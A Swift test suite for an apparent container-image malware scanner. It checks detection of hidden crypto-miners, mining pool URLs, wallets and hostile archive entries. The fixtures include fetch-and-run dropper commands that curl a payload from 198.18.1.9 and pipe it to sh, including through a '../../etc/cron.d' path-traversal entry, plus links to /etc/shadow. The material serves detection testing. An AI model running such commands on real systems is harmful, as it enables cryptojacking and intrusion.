import Foundation
import MinewatchCore
import MinewatchModel
import MinewatchScan
import MinewatchImage
import MinewatchSignatures
import Testing
import TestSupport

func layer(_ build: (inout TarBuilder) -> Void) -> [UInt8] {
    var t = TarBuilder()
    build(&t)
    return t.finished()
}

/// base: benign files; l2: a miner; l3: deletes the miner (still shipped) and adds a config.
func sampleLayers() -> [[UInt8]] {
    let base = layer { t in
        t.dir("bin"); t.file("bin/sh", Samples.elf(["GNU C Library"], seed: 2)); t.file("etc/os-release", "ID=debian\n")
    }
    let miner = layer { t in t.file("usr/local/bin/kworker", Samples.elf(Samples.xmrigStrings, seed: 5)) }
    let cleanup = layer { t in
        t.whiteout("usr/local/bin/kworker")
        t.file("opt/pkt/config.json", "{\"payment_addr\": \"\(pktWallet)\", \"pools\": [\"http://pool.pkt.world\"]}")
    }
    return [base, miner, cleanup]
}

@Suite struct ImageFormatTests {
    func checkSample(_ r: TargetReport, kind: String) {
        #expect(r.kind == kind)
        #expect(r.errors.isEmpty, "\(r.errors)")
        let bin = r.finding("MW-BIN-XMRIG", at: "/usr/local/bin/kworker")
        #expect(bin?.hidden == true, "a file deleted by a later layer is reported as hidden")
        #expect(bin?.severity == .critical, "hidden does not lower severity")
        #expect(bin?.layer == r.image?.layers[1])
        #expect(r.finding("MW-CFG-PACKETCRYPT")?.hidden == false)
        #expect(r.stats.files >= 4)
    }

    @Test func dockerArchive() throws {
        let img = ImageBuilder(layers: sampleLayers())
        let r = try scanArchive(img.dockerArchive())
        #expect(r.count == 1)
        checkSample(r[0], kind: "docker-archive")
        #expect(r[0].image?.references == ["localhost/test:1"])
        #expect(r[0].image?.layers.first?.hasPrefix("sha256:") == true)
    }

    @Test func ociArchiveWithGzipAndZstdLayers() throws {
        let raw = sampleLayers()
        let img = ImageBuilder(layers: [try gzip(raw[0]), try zstdCompress(raw[1]), try gzip(raw[2])], uncompressed: raw)
        checkSample(try scanArchive(img.ociArchive())[0], kind: "oci-archive")
    }

    @Test func ociLayoutFolder() throws {
        let dir = try TempDir("oci")
        defer { dir.cleanup() }
        let path = try ImageBuilder(layers: sampleLayers()).ociLayout(in: dir)
        checkSample(ImageScanner(rules: compiledRules).scan(path: path)[0], kind: "oci-layout")
    }

    @Test func multiPlatformIndexPicksPlatform() throws {
        let dir = try TempDir("oci")
        defer { dir.cleanup() }
        let p = try dir.file("img.tar", ImageBuilder(layers: sampleLayers()).ociArchive(platforms: 2))
        var opts = ScanOptions(platform: Platform(parsing: "linux/arm64"))
        #expect(ImageScanner(rules: compiledRules, options: opts).scan(path: p)[0].errors.isEmpty)
        opts.platform = Platform(parsing: "linux/s390x")
        let r = ImageScanner(rules: compiledRules, options: opts).scan(path: p)[0]
        #expect(r.errors.first?.message.contains("no image for linux/s390x") == true)
    }

    @Test func rootfsTarballAndSingleFile() throws {
        let tarball = layer { t in t.file("usr/bin/svc", Samples.elf(Samples.packetcryptStrings)) }
        let r = try scanArchive(tarball)[0]
        #expect(r.kind == "rootfs-archive")
        #expect(r.finding("MW-BIN-PACKETCRYPT", at: "/usr/bin/svc") != nil)
        let gz = try scanArchive(try gzip(tarball))[0]
        #expect(gz.finding("MW-BIN-PACKETCRYPT") != nil)
        let single = try scanFile(Samples.elf(Samples.cpuminerStrings), name: "innocent")
        #expect(single.kind == "file")
        #expect(single.finding("MW-BIN-CPUMINER")?.path == "/innocent")
    }

    @Test func imageMetadataIsScanned() throws {
        var img = ImageBuilder(layers: [layer { t in t.file("etc/hostname", "x\n") }])
        img.entrypoint = ["/usr/bin/sugoi"]
        img.cmd = ["ann", "-p", pktWallet, "http://pool.pktpool.io"]
        img.env = ["PATH=/usr/bin", "POOL_URL=stratum+tcp://198.18.1.2:3333"]
        img.history = ["/bin/sh -c curl -o /usr/bin/xmrig http://198.18.1.9/x && chmod +x /usr/bin/xmrig", "/bin/sh -c #(nop) CMD [\"ann\"]"]
        let r = try scanArchive(img.dockerArchive())[0]
        let cmd = r.finding("MW-CMD-PACKETCRYPT", at: "config:Entrypoint+Cmd")
        #expect(cmd?.severity == .high)
        #expect(cmd?.layer == nil)
        #expect(cmd?.evidence.contains { $0.kind == .wallet && $0.value == pktWallet } == true)
        #expect(r.finding("MW-ENV-POOL", at: "config:Env") != nil)
        #expect(r.finding("MW-POOL-URL", at: "config:Env")?.evidence.contains { $0.value == "stratum+tcp://198.18.1.2:3333" } == true)
        #expect(r.finding("MW-DROPPER-FETCH", at: "history[0]") != nil)
    }

    @Test func sharedLayersAreScannedOnce() throws {
        let layers = sampleLayers()
        let a = ImageBuilder(layers: layers)
        var b = ImageBuilder(layers: [layers[0], layer { t in t.file("app/run.sh", "#!/bin/sh\necho hi\n") }])
        b.tag = "localhost/other:1"
        let dir = try TempDir("cache")
        defer { dir.cleanup() }
        let pa = try dir.file("a.tar", a.dockerArchive()), pb = try dir.file("b.tar", b.dockerArchive())
        let scanner = ImageScanner(rules: compiledRules)
        let ra = scanner.scan(path: pa)[0], rb = scanner.scan(path: pb)[0]
        #expect(ra.stats.layersScanned == 3)
        #expect(rb.stats.layersScanned == 1 && rb.stats.layersFromCache == 1)
        // A persistent cache serves a new scanner too.
        var opts = ScanOptions()
        opts.cacheDirectory = dir.path + "/cache"
        _ = ImageScanner(rules: compiledRules, options: opts).scan(path: pa)
        let again = ImageScanner(rules: compiledRules, options: opts).scan(path: pa)[0]
        #expect(again.stats.layersFromCache == 3)
        #expect(again.finding("MW-BIN-XMRIG")?.hidden == true)
    }

    /// The persistent cache is keyed by every field of every rule: editing one (a title, a family, a
    /// technique, a `runs:` severity, a capture, a correlation) misses it, so no stale finding returns.
    @Test func editingAnyRuleFieldMissesThePersistentCache() throws {
        let dir = try TempDir("cache-key")
        defer { dir.cleanup() }
        let path = try dir.file("a.tar", ImageBuilder(layers: sampleLayers()).dockerArchive())
        var opts = ScanOptions()
        opts.cacheDirectory = dir.path + "/cache"
        let base = BundledRules.load().0
        _ = ImageScanner(rules: CompiledRules(base), options: opts).scan(path: path)
        #expect(ImageScanner(rules: CompiledRules(base), options: opts).scan(path: path)[0].stats.layersFromCache == 3)
        let xmrig = try #require(base.rules.firstIndex { $0.id == "MW-BIN-XMRIG" })
        let edits: [(String, (inout RuleSet) -> Void)] = [
            ("title", { $0.rules[xmrig].title += " (edited)" }),
            ("family", { $0.rules[xmrig].family = "edited" }),
            ("technique", { $0.rules[xmrig].technique = "T1496.002" }),
            ("runs", { $0.rules[xmrig].severityWhenRunning = .low }),
            ("capture", { $0.rules[xmrig].strings[0].capture = .url }),
            ("string order", { $0.rules[xmrig].strings.swapAt(0, 1) }),
            ("correlation", { $0.correlations[0].raiseTo = $0.correlations[0].raiseTo == .high ? .critical : .high }),
        ]
        for (what, edit) in edits {
            var set = base
            edit(&set)
            #expect(set.digest != base.digest, "\(what)")
            let r = ImageScanner(rules: CompiledRules(set), options: opts).scan(path: path)[0]
            #expect(r.stats.layersFromCache == 0, "editing the \(what) of a rule must miss the cache")
        }
        // The same rules in another process encode the same way (sets are sorted).
        #expect(base.digest == BundledRules.load().0.digest)
    }
}

@Suite struct HostileArchiveTests {
    @Test func badLayerIsReportedAndOthersStillScanned() throws {
        let good = layer { t in t.file("usr/bin/m", Samples.elf(Samples.xmrigStrings)) }
        var corrupt = try gzip(layer { t in t.file("a", [UInt8](repeating: 1, count: 100_000)) })
        corrupt.replaceSubrange(30..<60, with: [UInt8](repeating: 0xAA, count: 30))
        var rand = Samples.Rand(seed: 1)
        let big = rand.bytes(50_000)
        var truncated = layer { t in t.file("big", big) }
        truncated = Array(truncated.prefix(20_000))
        let img = ImageBuilder(layers: [corrupt, truncated, good], uncompressed: [corrupt, truncated, good])
        let r = try scanArchive(img.dockerArchive())[0]
        #expect(r.errors.count == 2, "\(r.errors.map(\.message))")
        #expect(r.errors.allSatisfy { $0.layer != nil })
        #expect(r.errors.contains { $0.message.contains("gzip") })
        #expect(r.errors.contains { $0.message.contains("truncated") })
        #expect(r.finding("MW-BIN-XMRIG") != nil, "the good layer is still scanned")
    }

    @Test func dotDotEntriesAndLinksAreReportedNeverFollowed() throws {
        let evil = layer { t in
            t.file("../../etc/cron.d/x", "* * * * * root curl http://198.18.1.9/m | sh # xmrig\n")
            t.symlink("etc/passwd-link", to: "/etc/passwd")
            t.symlink("loop1", to: "loop2")
            t.symlink("loop2", to: "loop1")
            t.hardlink("usr/bin/h", to: "/etc/shadow")
            t.device("dev/sda")
            t.file("usr/bin/after", Samples.elf(Samples.cpuminerStrings))
        }
        let r = try scanArchive(ImageBuilder(layers: [evil]).dockerArchive())[0]
        #expect(r.errors.contains { $0.message.contains("leaves the layer root") })
        // Scanned (a miner cannot hide behind '..'), never extracted.
        #expect(r.finding("MW-DROPPER-FETCH", at: "/../../etc/cron.d/x") != nil)
        #expect(r.finding("MW-BIN-CPUMINER", at: "/usr/bin/after") != nil)
        #expect(!FileManager.default.fileExists(atPath: "/etc/cron.d/x"))
    }

    @Test func manifestPointingOutsideAndBadDigests() throws {
        var t = TarBuilder()
        t.file("manifest.json", "[{\"Config\":\"../../etc/passwd\",\"RepoTags\":[],\"Layers\":[]}]")
        let r = try scanArchive(t.finished())[0]
        #expect(!r.errors.isEmpty)
        var o = TarBuilder()
        o.file("oci-layout", "{}")
        o.file("index.json", "{\"manifests\":[{\"digest\":\"sha256:../../../etc/passwd\"}]}")
        let r2 = try scanArchive(o.finished())[0]
        #expect(r2.errors.first?.message.contains("invalid digest") == true)
    }

    @Test func rootfsFolderNeverFollowsLinks() throws {
        let dir = try TempDir("links")
        defer { dir.cleanup() }
        _ = try dir.file("outside/miner", Samples.elf(Samples.xmrigStrings))
        _ = try dir.file("root/etc/ok", Array("fine\n".utf8))
        try FileManager.default.createSymbolicLink(atPath: dir.path + "/root/escape", withDestinationPath: dir.path + "/outside")
        try FileManager.default.createSymbolicLink(atPath: dir.path + "/root/loop", withDestinationPath: dir.path + "/root/loop")
        let r = ImageScanner(rules: compiledRules).scan(path: dir.path + "/root")[0]
        #expect(r.findings.isEmpty)
        #expect(r.stats.files == 1)
    }

    /// Matching a folder's files on several threads reports exactly what one thread does, in the
    /// same order, unreadable files included.
    @Test func rootfsOnThreadsMatchesOneThread() throws {
        let dir = try TempDir("threads")
        defer { dir.cleanup() }
        var rand = Samples.Rand(seed: 11)
        for i in 0..<60 {
            let body = i % 13 == 5 ? Samples.elf(Samples.xmrigStrings, seed: UInt64(i)) : rand.bytes(20_000 + i * 3_000)
            _ = try dir.file("root/d\(i % 7)/f\(i)", body)
        }
        _ = try dir.file("root/etc/xmrig.json", Array("{\"pools\": [{\"url\": \"stratum+tcp://pool.supportxmr.com:3333\"}]}".utf8))
        _ = try dir.file("root/secret", Array("x".utf8), mode: 0)
        func scan(_ threads: Int) -> TargetReport {
            var o = ScanOptions()
            o.threads = threads
            return ImageScanner(rules: compiledRules, options: o).scan(path: dir.path + "/root")[0]
        }
        let one = scan(1), four = scan(4)
        #expect(one.findings.count >= 5)
        #expect(one.findings.map(\.path) == four.findings.map(\.path))
        #expect(one.findings.map(\.ruleId) == four.findings.map(\.ruleId))
        #expect(one.stats.files == four.stats.files && one.stats.bytes == four.stats.bytes)
        #expect(one.errors.map(\.message) == four.errors.map(\.message))
    }

    @Test func notAnImageAndMissingTargets() throws {
        let missing = ImageScanner(rules: compiledRules).scan(path: "/nonexistent/x.tar")[0]
        #expect(missing.errors.first?.message == "/nonexistent/x.tar: open target: no such file or directory (errno 2)")
        let garbage = try scanFile(Array(repeating: 0x41, count: 4096), name: "garbage.tar")
        #expect(garbage.kind == "file")
        #expect(garbage.errors.isEmpty)
    }
}

